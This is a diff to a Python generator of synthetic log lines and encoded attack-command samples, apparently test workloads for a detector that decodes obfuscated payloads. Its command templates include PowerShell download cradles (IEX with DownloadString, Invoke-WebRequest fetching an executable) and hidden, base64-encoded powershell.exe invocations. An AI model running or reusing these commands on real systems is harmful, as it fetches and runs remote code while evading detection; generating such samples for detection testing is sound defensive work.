@@ -20,11 +20,52 @@ import random
 import zipfile
 import zlib
 
-WORDS = (
-    "user admin login failed success process started stopped service network connection "
-    "from to port file read write deleted created registry key value host server client "
-    "request response error warning info debug session token audit policy group member"
-).split()
+WORDS = [
+    *(
+        [
+            "user",
+            "admin",
+            "login",
+            "failed",
+            "success",
+            "process",
+            "started",
+            "stopped",
+            "service",
+            "network",
+        ]
+    ),
+    *(
+        [
+            "connection",
+            "from",
+            "to",
+            "port",
+            "file",
+            "read",
+            "write",
+            "deleted",
+            "created",
+            "registry",
+            "key",
+        ]
+    ),
+    *(
+        [
+            "value",
+            "host",
+            "server",
+            "client",
+            "request",
+            "response",
+            "error",
+            "warning",
+            "info",
+            "debug",
+        ]
+    ),
+    *(["session", "token", "audit", "policy", "group", "member"]),
+]
 COMMANDS = [
     "IEX (New-Object Net.WebClient).DownloadString('http://{host}/{name}.ps1')",
     "Invoke-WebRequest -Uri http://{host}/{name} -OutFile $env:TEMP\\{name}.exe",
@@ -52,11 +93,13 @@ def plain_line(rng: random.Random) -> str:
     return f"{ts} host{rng.randint(1, 50)} pid={rng.randint(100, 9999)} " + " ".join(words)
 
 
-def zip_bytes(members: list[tuple[str, bytes]]) -> bytes:
+def zip_bytes(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
     buf = io.BytesIO()
-    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
+    with zipfile.ZipFile(buf, "w") as z:
         for name, data in members:
-            z.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data)
+            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
+            info.compress_type = method
+            z.writestr(info, data)
     return buf.getvalue()
 
 
@@ -68,10 +111,13 @@ def raw_deflate(data: bytes) -> bytes:
 def payload_row(rng: random.Random) -> tuple[str, str, str]:
     """(text, kind, truth) for one row of the parity / payload workloads."""
     cmd = command(rng)
-    pick = rng.randrange(12)
+    pick = rng.randrange(13)
     if pick == 0:
-        return (f"powershell.exe -NoP -NonI -W Hidden -enc {b64(cmd.encode('utf-16-le'))}",
-                "ps_enc_utf16", cmd)
+        return (
+            f"powershell.exe -NoP -NonI -W Hidden -enc {b64(cmd.encode('utf-16-le'))}",
+            "ps_enc_utf16",
+            cmd,
+        )
     if pick == 1:
         return f"cmd.exe /c echo {b64(cmd.encode())} > run.txt", "b64_text", cmd
     if pick == 2:
@@ -106,6 +152,9 @@ def payload_row(rng: random.Random) -> tuple[str, str, str]:
     if pick == 10:
         enc = b64(cmd.encode())
         return f"{enc} again {enc}", "b64_duplicate", cmd
+    if pick == 11:
+        z = zip_bytes([("run.ps1", cmd.encode()), ("b.txt", b"second")], zipfile.ZIP_STORED)
+        return f"stored {b64(z)}", "b64_zip_stored", cmd
     return plain_line(rng), "plain", ""
 
 
